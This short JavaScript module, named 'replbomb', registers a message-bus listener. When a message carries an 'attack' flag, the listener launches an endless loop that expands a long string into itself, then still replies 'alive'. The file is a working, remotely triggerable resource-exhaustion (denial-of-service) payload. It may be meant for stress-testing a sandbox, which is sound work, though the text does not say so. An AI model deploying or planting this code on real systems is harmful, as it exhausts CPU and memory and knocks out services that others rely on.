// Replaces each letter of a long text by the text, again and again.
function activate(url, bus) {
  const attack = () => {
    const text = 'ab'.repeat(1 << 11);
    for (;;) {
      try {
        text.replaceAll('a', text).lastIndexOf('aab');
      } catch {}
    }
  };
  bus.addListener(url, (message, reply) => {
    if (message.body.attack) attack();
    reply({ code: 200, value: 'alive' });
  });
  return { name: 'replbomb' };
}
